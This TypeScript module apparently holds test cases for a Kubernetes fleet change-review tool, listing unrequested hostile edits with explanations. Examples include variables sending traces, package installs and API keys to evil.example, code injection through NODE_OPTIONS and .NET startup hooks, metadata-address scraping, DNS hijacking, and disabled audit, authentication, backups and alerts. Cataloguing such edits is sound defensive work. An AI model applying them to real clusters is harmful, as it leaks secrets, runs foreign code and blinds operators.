// Further changes that nobody delivers without having been asked: by keys, variables, files, relabelling, and what comes new.
import type { Row } from './dangerous.ts';
import type { Change, Edit, Spec } from './fleet.ts';
import { small } from './fleet.ts';
import { board, component, container, extra, image, object, override, patch, pod, regional } from './write.ts';
import type { Operation } from './write.ts';

const pointer = (key: string): string => key.replaceAll('/', '~1');

/** A key of a map, and what acts on it. */
type Key = readonly [key: string, value: string, how: string];

const onTemplate: readonly Key[] = [
  ['instrumentation.opentelemetry.io/inject-nodejs', 'true', 'the operator of OpenTelemetry loads its code into the process'],
  ['k8s.v1.cni.cncf.io/networks', 'other', 'Multus gives the pods a second network, which no NetworkPolicy holds'],
  ['dapr.io/enabled', 'true', 'Dapr puts a container into the pods'],
  ['io.kubernetes.cri-o.userns-mode', 'auto', 'CRI-O gives the pods other users'],
];
const onAccount: readonly Key[] = [
  ['iam.gke.io/gcp-service-account', 'admin@example.iam.gserviceaccount.com', 'Google gives pods of the account the rights of its own account'],
  ['azure.workload.identity/client-id', 'x', 'Azure gives pods of the account the rights of the client'],
];
const onDeployment: readonly Key[] = [
  ['keel.sh/policy', 'all', 'Keel changes the image to whatever version is pushed'],
  ['downscaler/uptime', 'never', 'kube-downscaler sets no replicas'],
  ['janitor/ttl', '1h', 'kube-janitor deletes what is older'],
];
const onService: readonly Key[] = [
  ['networking.gke.io/load-balancer-type', 'External', 'Google opens the Service to the internet'],
  ['tailscale.com/expose', 'true', 'Tailscale opens the Service to its network'],
  ['getambassador.io/config', 'x', 'Ambassador makes a route of it'],
];
const onNamespace: readonly Key[] = [
  ['janitor/ttl', '1h', 'kube-janitor deletes the namespace with all that is in it'],
  ['openshift.io/node-selector', 'disk=none', 'OpenShift lets the pods run on no node'],
];

function annotated(what: string, of: string, target: string, path: string, keys: readonly Key[]): Row[] {
  return keys.map(([key, value, how]) => [
    `the annotation ${key} on ${what}`,
    {
      files: patch(
        of,
        target,
        path.endsWith('annotations') ? ['add', `${path}/${pointer(key)}`, value] : ['add', `${path}/annotations`, { [key]: value }],
      ),
    },
    how,
  ]);
}

const keys: readonly Row[] = [
  ...annotated('pods', 'north/agents', 'Deployment alpha-agent', '/spec/template/metadata/annotations', onTemplate),
  ...annotated('an account', 'north/agents', 'ServiceAccount alpha-agent', '/metadata', onAccount),
  ...annotated('a Deployment', 'north/agents', 'Deployment alpha-agent', '/metadata/annotations', onDeployment),
  ...annotated('a Service', 'north/agents', 'Service alpha-agent', '/metadata', onService),
  ...annotated('a Namespace', 'north/cluster', 'Namespace agents', '/metadata/annotations', onNamespace),
  [
    'a label of pods for Azure',
    { files: patch('north/agents', 'Deployment alpha-agent', ['add', '/spec/template/metadata/labels/azure.workload.identity~1use', 'true']) },
    'Azure puts a token of the account into the pods',
  ],
  [
    'a label of a Deployment for kapp',
    { files: patch('north/agents', 'Deployment alpha-agent', ['add', '/metadata/labels/kapp.k14s.io~1app', '1']) },
    'kapp deletes what bears the label of its application and is not in it',
  ],
  [
    'a ConfigMap that is a data source of Grafana',
    labelled({ grafana_datasource: '1' }),
    'the sidecar hands it to Grafana, which sends its credentials there',
  ],
  ['a ConfigMap that is an alert of Grafana', labelled({ grafana_alert: '1' }), 'the sidecar hands it to Grafana, which runs its queries'],
  [
    'a ConfigMap that becomes a data source by patch',
    {
      had: extra('north/agents', object('v1', 'ConfigMap', 'notes', { data: { a: 'b' } })),
      files: patch('north/agents', 'ConfigMap notes', ['add', '/metadata/labels', { grafana_datasource: '1' }]),
    },
    'a patch of what people added is theirs as well',
  ],
  [
    'a ConfigMap for a folder of Grafana',
    { files: board('/etc/grafana/provisioning/datasources', { 'a.yaml': '{}' }) },
    'the sidecar writes the file where Grafana reads its data sources',
  ],
  [
    'a ConfigMap for certificates of OpenShift',
    labelled({ 'config.openshift.io/inject-trusted-cabundle': 'true' }),
    'a controller replaces its content',
  ],
  [
    'Pod Security is no longer audited',
    { files: patch('north/cluster', 'Namespace agents', ['replace', '/metadata/labels/pod-security.kubernetes.io~1audit', 'privileged']) },
    'pods with more rights leave no trace in the audit log',
  ],
];

function labelled(labels: Record<string, string>): Change {
  return {
    files: extra('north/agents', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mine', namespace: 'agents', labels }, data: { a: 'b' } }),
  };
}

const variables: readonly Row[] = (
  [
    ['OPENSSL_CONF', '/tmp/x.cnf', 'OpenSSL loads engines that the file names'],
    ['DOTNET_STARTUP_HOOKS', '/tmp/x.dll', '.NET runs the library before the program'],
    ['CORECLR_PROFILER_PATH', '/tmp/x.so', '.NET loads the library as its profiler'],
    ['OTEL_EXPORTER_OTLP_ENDPOINT', 'https://evil.example', 'traces, with what is in requests, go there'],
    ['SSLKEYLOGFILE', '/tmp/keys', 'the keys of every connection are written to the file'],
    ['PYTHONHTTPSVERIFY', '0', 'Python trusts any certificate'],
    ['GRPC_DEFAULT_SSL_ROOTS_FILE_PATH', '/tmp/ca.pem', 'gRPC trusts other authorities'],
    ['npm_config_registry', 'https://evil.example', 'npm installs from there'],
    ['PIP_INDEX_URL', 'https://evil.example', 'pip installs from there'],
    ['HOSTALIASES', '/tmp/hosts', 'names resolve to others'],
    ['OPENAI_BASE_URL', 'https://evil.example/v1', 'the agent sends its requests, with its key, there'],
    ['DATABASE_URL', 'postgres://db.example.net/x?sslmode=disable', 'data goes there, or without encryption'],
  ] as const
).map(([name, value, how]) => [`the variable ${name}`, { edit: override('alpha', 'north', { env: { [name]: value } }) }, how]);

const self: readonly Row[] = [
  [
    'the host of another agent as a variable',
    { files: container(['replace', '/env/7/value', 'beta.north.a.example.net']) },
    'the process says that it is the other',
  ],
  ['another region as a variable', { files: container(['replace', '/env/6/value', 'south']) }, 'the process says that it is elsewhere'],
  [
    'an address in a new agent',
    {
      edit: (spec) =>
        void (spec.agents['delta'] = {
          ...structuredClone(spec.agents['alpha'] as object),
          ref: 'acme/delta@1.0.0',
          ...image('delta', 'v1.0.0'),
          env: { OPENAI_BASE_URL: 'https://evil.example/v1' },
        }),
    },
    'what comes with a new agent is new power as well',
  ],
];

const mounted = (data: Record<string, string>): Record<string, unknown> => ({
  ...extra('north/agents', object('v1', 'ConfigMap', 'code', { data })),
  ...pod(
    ['add', '/volumes/-', { name: 'c', configMap: { name: 'code' } }],
    ['add', '/containers/0/volumeMounts/-', { name: 'c', mountPath: '/app' }],
  ),
});
const asVariables = (data: Record<string, string>): Record<string, unknown> => ({
  ...extra('north/agents', object('v1', 'ConfigMap', 'code', { data })),
  ...container(['add', '/envFrom', [{ configMapRef: { name: 'code' } }]]),
});
const storeMount = (...operations: readonly Operation[]): Change => ({ files: patch('north/agents', 'Deployment store-agent', ...operations) });

const content: readonly Row[] = [
  [
    'another script in a ConfigMap that is mounted',
    { had: mounted({ 'run.sh': 'echo a' }), files: mounted({ 'run.sh': 'echo b' }) },
    'the kubelet replaces the file, and the process runs it',
  ],
  [
    'another program in a ConfigMap that is mounted',
    { had: mounted({ run: '#!/bin/sh\necho a' }), files: mounted({ run: '#!/bin/sh\necho b' }) },
    'the kubelet replaces the file, and the process runs it',
  ],
  [
    'a variable that loads code, by way of a ConfigMap',
    { had: asVariables({ LOG_LEVEL: 'info' }), files: asVariables({ LOG_LEVEL: 'info', NODE_OPTIONS: '--require /tmp/x.js' }) },
    'every line of the ConfigMap is a variable',
  ],
  [
    'a ConfigMap that pods read if it is there',
    {
      had: container(['add', '/envFrom', [{ configMapRef: { name: 'later', optional: true } }]]),
      files: extra('north/agents', object('v1', 'ConfigMap', 'later', { data: { NODE_OPTIONS: '--require /tmp/x.js' } })),
    },
    'the reference was allowed when there was nothing to read',
  ],
  [
    'the volume of an agent is mounted elsewhere',
    { edit: override('store', 'north', { storage: { size: '10Gi', mountPath: '/other' } }) },
    'the process finds an empty folder and begins anew',
  ],
  [
    'a folder of the volume is mounted',
    storeMount(['add', '/spec/template/spec/containers/0/volumeMounts/4/subPath', 'x']),
    'the process finds an empty folder and begins anew',
  ],
  [
    'a device of the node',
    { files: container(['add', '/resources/limits/nvidia.com~1gpu', '8']) },
    'a plugin of the node hands the device into the container',
  ],
  [
    'system calls that a file of the node lists',
    { files: pod(['replace', '/securityContext/seccompProfile', { type: 'Localhost', localhostProfile: 'all.json' }]) },
    'nobody sees here what the file allows',
  ],
];

const monitor = (...operations: readonly Operation[]): Change => ({ files: patch('north/monitoring', 'ServiceMonitor alpha-agent', ...operations) });
const rule = (fields: object): Change => ({
  files: extra('north/monitoring', {
    apiVersion: 'monitoring.coreos.com/v1',
    kind: 'PrometheusRule',
    metadata: { name: 'more', namespace: 'agents', labels: { release: 'kube-prometheus-stack' } },
    spec: { groups: [{ name: 'more', rules: [fields] }] },
  }),
});

const watching: readonly Row[] = [
  [
    'metrics of one agent as those of another',
    monitor(['replace', '/spec/endpoints/0/relabelings/0/replacement', 'beta']),
    'the alert of the one looks at the other, and tells of nothing',
  ],
  [
    'metrics of another address',
    monitor(['add', '/spec/endpoints/0/relabelings/-', { action: 'replace', replacement: '169.254.169.254:80', targetLabel: '__address__' }]),
    'Prometheus asks the address, from inside of the network',
  ],
  ['targets that name themselves', monitor(['add', '/spec/endpoints/0/honorLabels', true]), 'a target may write samples of every other'],
  ['metrics of every namespace', monitor(['add', '/spec/namespaceSelector', { any: true }]), 'Prometheus asks pods of others'],
  [
    'a rule that writes what alerts read',
    rule({ record: 'up', expr: 'vector(1)', labels: { namespace: 'agents', agent: 'alpha' } }),
    'absent() finds a sample although no pod is there',
  ],
  [
    'alerts of certificates on the last day',
    { edit: regional('north', 'monitoring', { certificateDays: 1 }) },
    'nobody has the time to act before the certificate ends',
  ],
  [
    'alerts of the region that are asked once a day',
    { files: patch('north/monitoring', 'PrometheusRule pap-fleet', ['add', '/spec/groups/0/interval', '24h']) },
    'the operator evaluates the group that rarely',
  ],
];

const secretly: readonly Row[] = [
  [
    'another property of the store',
    { files: patch('north/secrets', 'ExternalSecret alpha-signing-keys', ['add', '/spec/dataFrom/0/extract/property', 'other']) },
    'the Secret is filled with another value of the same entry',
  ],
  [
    'a Secret that can never change',
    { files: patch('north/secrets', 'ExternalSecret alpha-signing-keys', ['add', '/spec/target/immutable', true]) },
    'the API server refuses a rotated key',
  ],
  [
    'Secrets that are read once a year',
    { edit: regional('north', 'secrets', { refreshInterval: '8760h' }) },
    'a key that is rotated in the store arrives next year',
  ],
  [
    'an authentication whose answers are too long',
    { files: patch('north/ingress', 'Middleware pap-forward-auth', ['replace', '/spec/forwardAuth/maxResponseBodySize', 1]) },
    'Traefik refuses every answer, and with it every request',
  ],
  [
    'a rate limit of one request a day',
    { edit: component('ingress', { rateLimit: { average: 1, burst: 1, period: '24h' } }) },
    'Traefik answers every other request with 429',
  ],
  ['a quota without an end', { edit: component('cluster', { quota: { pods: 100000, cpu: '100000' } }) }, 'one agent may fill the cluster'],
];

const controllers: readonly Row[] = [
  [
    'ExternalDNS stops in a region',
    { files: patch('north/dns', 'Deployment external-dns', ['replace', '/spec/replicas', 0]) },
    'nobody publishes names there',
  ],
  [
    'ExternalDNS finds no node',
    { files: patch('north/dns', 'Deployment external-dns', ['add', '/spec/template/spec/nodeSelector', { disk: 'none' }]) },
    'nobody publishes names there',
  ],
  ['ExternalDNS looks once a day', { edit: regional('north', 'dns', { interval: '24h' }) }, 'names of new agents resolve a day later'],
  [
    'a record of another owner',
    { files: patch('north/dns', 'DNSEndpoint pap-agents', ['add', '/spec/endpoints/0/labels', { owner: 'other' }]) },
    'ExternalDNS no longer takes the record for its own',
  ],
  [
    'a record by another identifier',
    { files: patch('north/dns', 'DNSEndpoint pap-agents', ['add', '/spec/endpoints/0/setIdentifier', 'x']) },
    'ExternalDNS deletes the record and makes another',
  ],
  [
    'an autoscaler that adds nothing',
    { files: patch('all/agents', 'HorizontalPodAutoscaler gamma-agent', ['add', '/spec/behavior/scaleUp', { selectPolicy: 'Disabled' }]) },
    'the controller never adds a pod',
  ],
  [
    'pods that count as ready after a day',
    { files: patch('all/agents', 'Deployment alpha-agent', ['add', '/spec/minReadySeconds', 86400]) },
    'a rollout waits a day for each pod',
  ],
];

const inEast =
  (fields: object, also: Edit = () => undefined): Edit =>
  (spec: Spec) => {
    spec.regions['east'] = {
      ...structuredClone(spec.regions['west'] as Spec['regions'][string]),
      ingressHost: 'ingress-4.example.net',
      ingressAddresses: ['198.51.100.4'],
      ...fields,
    };
    for (const own of Object.values(spec.agents)) (own as unknown as { regions: string[] }).regions.push('east');
    also(spec);
  };
const AUTH = { address: 'https://auth.example.net/verify' };

/** Settings of a component in a region that comes. */
const arriving: readonly Row[] = (
  [
    ['cluster', { podSecurity: 'privileged' }, 'the cluster admits pods with all rights of their node'],
    ['policies', { enabled: false }, 'every pod reaches every other and the internet'],
    ['ingress', { forwardAuth: null }, 'Traefik hands every request to the agents'],
    ['ingress', { forwardAuth: { ...AUTH, trustForwardHeader: true } }, 'a client says which address it comes from'],
    ['ingress', { forwardAuth: { ...AUTH, responseHeaders: ['X-Admin'] } }, 'agents believe the header'],
    ['ingress', { rateLimit: null }, 'one client may occupy every agent'],
    ['ingress', { rateLimit: { average: 1000000, burst: 1000000, period: '1s' } }, 'the bucket never empties'],
    ['ingress', { minTLSVersion: 'VersionTLS12' }, 'clients may negotiate TLS 1.2'],
    ['certs', { clientCA: 'other-ca' }, 'the Station does not know the agents, or knows others'],
    ['certs', { clientDuration: '87600h' }, 'a stolen key is of use for ten years'],
    ['certs', { solver: 'cloudflare' }, 'another token may prove control over the zone'],
    ['secrets', { provider: 'manual' }, 'nothing rotates the Secrets'],
    ['dns', { policy: 'upsert-only' }, 'records of agents that are gone stay'],
    ['backup', { enabled: false }, 'no volume is backed up'],
    ['backup', { ttl: '1h' }, 'Velero deletes what is older'],
    ['backup', { storageLocation: 'other' }, 'data goes to another bucket'],
    ['monitoring', { enabled: false }, 'no alert tells of the region'],
  ] as const
).map(([name, settings, how]) => [
  `a new region with ${name} ${JSON.stringify(settings)}`,
  { edit: inEast({ components: { [name]: settings } }) },
  how,
]);

const hostile = (name: string, of: string, target: string, operation: Operation, how: string): Row => [
  `a new region with a patch: ${name}`,
  { edit: inEast({}), files: patch(`east/${of}`, target, operation) },
  how,
];
const agentWith = (name: string, of: string, target: string, operation: Operation, how: string): Row => [
  `a new agent with a patch: ${name}`,
  {
    edit: (spec) =>
      void (spec.agents['delta'] = {
        ...structuredClone(spec.agents['alpha'] as object),
        ref: 'acme/delta@1.0.0',
        ...image('delta', 'v1.0.0'),
        regions: ['north'],
      }),
    files: patch(`north/${of}`, target, operation),
  },
  how,
];

const patched: readonly Row[] = [
  hostile(
    'no authentication',
    'ingress',
    'IngressRoute alpha-agent-hooks',
    ['remove', '/spec/routes/0/middlewares/1'],
    'Traefik hands every request on',
  ),
  hostile(
    'TLS for unknown names',
    'ingress',
    'TLSOption pap-tls',
    ['replace', '/spec/sniStrict', false],
    'Traefik answers for names it has no certificate of',
  ),
  hostile(
    'another ref',
    'agents',
    'Deployment alpha-agent',
    ['replace', '/spec/template/spec/containers/0/env/4/value', 'acme/beta@1.2.0'],
    'the agent speaks as another',
  ),
  hostile(
    'another target',
    'dns',
    'DNSEndpoint pap-agents',
    ['replace', '/spec/endpoints/0/targets', ['evil.example.com']],
    'every host of the region leads elsewhere',
  ),
  agentWith(
    'no authentication',
    'ingress',
    'IngressRoute delta-agent-hooks',
    ['remove', '/spec/routes/0/middlewares/1'],
    'Traefik hands every request on',
  ),
  agentWith(
    'the ref of another',
    'agents',
    'Deployment delta-agent',
    ['replace', '/spec/template/spec/containers/0/env/4/value', 'acme/beta@1.2.0'],
    'the agent speaks as another',
  ),
  [
    'the ingress comes back without authentication',
    {
      base: () => {
        const spec = small();
        regional('north', 'ingress', { enabled: false })(spec);
        return spec;
      },
      edit: regional('north', 'ingress', { enabled: true, forwardAuth: null }),
    },
    'off and on again must not be a way around',
  ],
];

export const FURTHER: Readonly<Record<string, readonly Row[]>> = {
  'keys that controllers act on': keys,
  variables: [...variables, ...self],
  'what pods read': content,
  watching,
  'secrets and limits': secretly,
  'controllers of the region': controllers,
  'regions that come': arriving,
  'patches of what comes': patched,
};
